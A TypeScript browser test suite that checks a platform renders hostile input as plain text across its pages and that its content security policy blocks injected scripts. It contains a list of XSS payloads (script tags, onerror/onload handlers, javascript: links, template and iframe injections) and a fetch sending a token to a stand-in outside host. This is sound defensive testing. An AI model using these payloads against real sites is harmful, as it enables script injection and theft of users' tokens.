import { expect, test } from "vitest";
import { describeInBrowser } from "../support/browser-suite.ts";
import type { RunningPlatform } from "../support/start-platform.ts";

/** Each would be noticed: by a title, by a request, or by a complaint of the policy. */
const hostile = [
  `<script>document.title="taken"</script>`,
  `<img src=x onerror="document.title='taken'">`,
  `"><svg onload="document.title='taken'">`,
  `javascript:document.title='taken'`,
  `[click](javascript:document.title='taken') ![x](https://evil.example/pixel.png)`,
  `{{constructor.constructor("document.title='taken'")()}}`,
  `</textarea><iframe srcdoc="<script>parent.document.title='taken'</script>">`,
  `\u202Egnp.exe\u0007<style>*{display:none}</style>`,
];
const text = hostile.join(" ");

interface Made {
  readonly item: { readonly id: string };
}

/** Runs a case whose every text is hostile, twice; gives the pages that show them. */
async function evaluate(
  ask: RunningPlatform["ask"],
  variables: { readonly text: string; readonly agent: string; readonly set: string },
): Promise<readonly string[]> {
  const run = `name: $text, description: $text, agent_id: $agent, eval_set_id: $set, eval_functions: [{ id: "contains" }]`;
  const made = await ask<Record<"testCase" | "a" | "b", Made>>(
    `mutation ($text: String!, $agent: String!, $set: String, $inputs: JSON!, $tools: JSON) {
      testCase: test_casesCreateOne(input: { name: $text, description: $text, inputs: $inputs, expected_output: $text, expected_tools: $tools, eval_set_id: $set }) { item { id } }
      a: eval_runsCreateOne(input: { ${run} }) { item { id } }
      b: eval_runsCreateOne(input: { ${run} }) { item { id } }
    }`,
    { ...variables, inputs: variables.text, tools: [variables.text] },
  );
  const [a, b] = [made.a.item.id, made.b.item.id];
  await ask("mutation ($a: ID!, $b: ID!) { a: runEval(id: $a) { count } b: runEval(id: $b) { count } }", { a, b });
  await expect
    .poll(() =>
      ask<object>(
        `query ($a: ID!, $b: ID!) { a: eval_runById(id: $a) { status } b: eval_runById(id: $b) { status } }`,
        { a, b },
      ),
    )
    .toEqual({ a: { status: "done" }, b: { status: "done" } });
  const { id } = made.testCase.item;
  return [
    ...["", "?tab=sets", "?tab=cases"].map((tab) => `/evaluations${tab}`),
    `/evaluations/sets/${variables.set}`,
    `/evaluations/cases/${id}`,
    ...[`?case=${id}`, "?tab=settings"].map((search) => `/evaluations/runs/${a}${search}`),
    `/evaluations/compare?a=${a}&b=${b}`,
  ];
}

describeInBrowser("Hostile texts in every field render as text (threat 38)", (suite) => {
  test("on every page that shows them", { timeout: 180_000 }, async () => {
    const { page, platform } = suite;
    const { ask } = platform;
    const variables = { text, json: { [hostile[1] ?? ""]: hostile } };
    const made = await ask<Record<string, Made>>(
      `mutation ($text: String!, $json: JSON) {
        ticket: ticketsCreateOne(input: { title: $text, body: $text, status: OPEN, customer: $text, tags: $json, attachment: "x.pdf", external_id: $text, RBAC: { type: "public" } }) { item { id } }
        article: documentationCreateOne(input: { title: $text, slug: $text, body: $text, tags: $json }) { item { id } }
        customer: customersCreateOne(input: { name: $text, email: $text, company: $text, address: $json, notes: $text }) { item { id } }
        role: rolesCreateOne(input: { name: $text, contexts: READ }) { item { id } }
        prompt: prompt_libraryCreateOne(input: { name: $text, content: $text, description: $text, category: $text, tags: $json, RBAC: { type: "public" } }) { item { id } }
        project: projectsCreateOne(input: { name: $text, description: $text, custom_instructions: $text, items: $json, RBAC: { type: "public" } }) { item { id } }
        agent: agentsCreateOne(input: { name: $text, description: $text, instructions: $text, welcomeMessage: $text, backend: "echo" }) { item { id } }
        set: eval_setsCreateOne(input: { name: $text, description: $text, RBAC: { type: "public" } }) { item { id } }
        variable: variablesCreateOne(input: { name: $text, value: $text, description: $text }) { item { id } }
      }`,
      variables,
    );
    const { user } = await ask<{ user: Made }>(
      `mutation ($text: String!, $role: String) { user: usersCreateOne(input: { email: "hostile@example.com", name: $text, image: $text, role: $role }) { item { id } } }`,
      { text, role: made.role?.item.id },
    );
    await ask(`mutation ($text: String!, $user: ID) { apiKeysGenerate(name: $text, user: $user) { key } }`, {
      text: text.slice(0, 200),
      user: user.item.id,
    });
    const agent = made.agent?.item.id;
    const { runAgent } = await ask<{ runAgent: { session: string } }>(
      `mutation ($agent: ID!, $text: String!) { runAgent(agent: $agent, prompt: $text) { session } }`,
      { agent, text },
    );
    const { workflow } = await ask<{ workflow: Made }>(
      `mutation ($input: workflow_templatesInput!) { workflow: workflow_templatesCreateOne(input: $input) { item { id } } }`,
      { input: { name: text, description: text, agent, steps_json: [{ prompt: text, group: text }, "{wish}"] } },
    );
    const { runWorkflow } = await ask<{ runWorkflow: { metadata: { run: string } } }>(
      `mutation ($id: ID!, $wish: JSON) { runWorkflow(id: $id, variables: $wish) { metadata } }`,
      { id: workflow.item.id, wish: { wish: text } },
    );
    const evaluated = await evaluate(ask, { text, agent: agent ?? "", set: made.set?.item.id ?? "" });
    const { manual, failing } = await ask<{ manual: Made; failing: { jobs: readonly string[] } }>(
      `mutation ($text: String!) {
        manual: manualsCreateOne(input: { title: $text, body: $text, external_id: $text }) { item { id } }
        failing: manualsExecuteSource(source: "printer", inputs: { failure: $text }) { jobs }
      }`,
      { text },
    );
    await expect
      .poll(() => ask<object>(`{ jobs(queue: slow_imports, statusses: [failed]) { pageInfo { itemCount } } }`))
      .toEqual({ jobs: { pageInfo: { itemCount: 1 } } });
    await expect
      .poll(() =>
        ask<object>(`query ($id: ID!) { manualsById(id: $id) { chunks { chunk_content } } }`, { id: manual.item.id }),
      )
      .toMatchObject({ manualsById: { chunks: [{ chunk_content: text }] } });
    const item = (context: string, id: string | undefined) => `/contexts/${context}/items/${id}`;
    await page.goto(`${platform.url}${item("tickets", made.ticket?.item.id)}`);
    // A name holds no slash, and browsers send its double quotes as %22.
    const name = "<img src=x onerror=document.title='taken'>.txt";
    await page.locator('input[type="file"]').setInputFiles({ name, mimeType: "text/plain", buffer: Buffer.from("x") });
    await page.getByRole("link", { name: `Download ${name}` }).waitFor();
    await page.getByRole("button", { name: "Save", exact: true }).click();
    await page.getByText("Saved", { exact: true }).waitFor();
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).origin !== platform.url) foreign.push(request.url());
    });

    const ticket = item("tickets", made.ticket?.item.id);
    const flow = `/workflows/${workflow.item.id}`;
    const pages = [
      "/",
      ...["tickets", "documentation", "customers"].map((context) => {
        const columns = encodeURIComponent(
          JSON.stringify(["title", "name", "body", "notes", "tags", "customer", "slug", "address"]),
        );
        return `/contexts/${context}?columns=${columns}`;
      }),
      ...["", "?tab=json", "?tab=rights", "?tab=history"].map((tab) => `${ticket}${tab}`),
      item("documentation", made.article?.item.id),
      item("customers", made.customer?.item.id),
      `/contexts/tickets?q=${encodeURIComponent(text)}`,
      `/contexts/tickets?where=${encodeURIComponent(JSON.stringify([{ field: "title", operator: "contains", value: text }]))}`,
      `${item("manuals", manual.item.id)}?tab=chunks`,
      `/search?q=${encodeURIComponent(text)}`,
      "/agents",
      `/agents/${agent}`,
      `/agents/${agent}/chat`,
      `/agents/${agent}/chat?session=${runAgent.session}`,
      "/tools",
      `/tools/find_ticket?agent=${encodeURIComponent(text)}`,
      `/tools/${encodeURIComponent(text)}`,
      "/workflows",
      flow,
      `${flow}/runs`,
      `${flow}/runs/${runWorkflow.metadata.run}`,
      ...evaluated,
      "/queues/slow-imports?state=failed",
      `/queues/slow-imports/jobs/${failing.jobs[0]}`,
      "/sources",
      "/prompts",
      `/prompts/${made.prompt?.item.id}`,
      "/projects",
      `/projects/${made.project?.item.id}`,
      `/users?open=${user.item.id}`,
      "/roles",
      "/api-keys",
      `/variables?open=${made.variable?.item.id}`,
      "/audit-log",
      `/nowhere/${encodeURIComponent(text)}`,
    ];
    const seen: string[] = [];
    // It stays open, and the network would never be idle.
    await page.route("**/events", (route) => route.fulfill({ contentType: "text/event-stream", body: ": none\n\n" }));
    for (const path of pages) {
      await page.goto(`${platform.url}${path}`);
      await page.waitForLoadState("networkidle");
      expect(await page.title()).not.toBe("taken");
      expect(await page.locator('script:not([src]), iframe, [onerror], [onload], a[href^="javascript:"]').count()).toBe(
        0,
      );
      const content = await page.evaluate(
        () =>
          document.body.textContent +
          [...document.querySelectorAll("input, textarea")].map((each) => (each as HTMLInputElement).value).join(" "),
      );
      if (content.includes('onerror="document.title')) seen.push(path.split("?")[0] ?? "");
    }

    expect(foreign).toEqual([]);
    expect(suite.browser.takeComplaints()).toEqual([]);
    // The texts were there, in plain sight, and not just absent.
    expect(seen).toEqual(
      expect.arrayContaining([
        ...["/contexts/tickets", "/contexts/documentation", "/contexts/customers", ticket, "/prompts", "/projects"],
        ...["/users", "/roles", "/api-keys", "/variables", "/search", "/queues/slow-imports", "/sources"],
        ...["/agents", `/agents/${agent}`, `/agents/${agent}/chat`],
        ...["/workflows", flow, `${flow}/runs`, `${flow}/runs/${runWorkflow.metadata.run}`],
        ...evaluated.map((path) => path.split("?")[0]),
        ...[item("manuals", manual.item.id), `/queues/slow-imports/jobs/${failing.jobs[0]}`],
      ]),
    );
  });

  test("and in the palette, in a toast and in a filter", async () => {
    const { page } = suite;
    await page.goto(`${suite.platform.url}/contexts/tickets`);
    await page.getByRole("navigation", { name: "Main" }).waitFor();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search or go to" }).fill("onerror=");
    await page.getByRole("option").filter({ hasText: "<img src=x" }).first().click();
    await page.getByRole("heading", { level: 1 }).filter({ hasText: "<script>" }).waitFor();
    await page.getByRole("button", { name: "Delete" }).click();
    await page.getByText(/Deleted “<script>/).waitFor();

    expect(await page.title()).not.toBe("taken");
    expect(suite.browser.takeComplaints()).toEqual([]);
  });

  test("and would be stopped by the policy if one slipped through", async () => {
    const { page } = suite;
    await page.goto(`${suite.platform.url}/`);

    const outcome = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.taken = true";
      document.head.append(script);
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.taken = true");
      image.src = "/nothing-here.png";
      document.body.append(image);
      return new Promise((resolve) => setTimeout(() => resolve("taken" in window), 500));
    });
    const sent = await page.evaluate(() =>
      fetch("http://elsewhere.example/?token=x").then(
        () => "sent",
        () => "stopped",
      ),
    );
    const evaluated = await page.evaluate(() => {
      const script = document.createElement("script");
      script.src = "data:text/javascript,window.taken=true";
      document.head.append(script);
      return new Promise((resolve) => setTimeout(() => resolve("taken" in window), 300));
    });

    expect([outcome, sent, evaluated]).toEqual([false, "stopped", false]);
    expect(suite.browser.takeComplaints().length).toBeGreaterThan(0);
  });
});
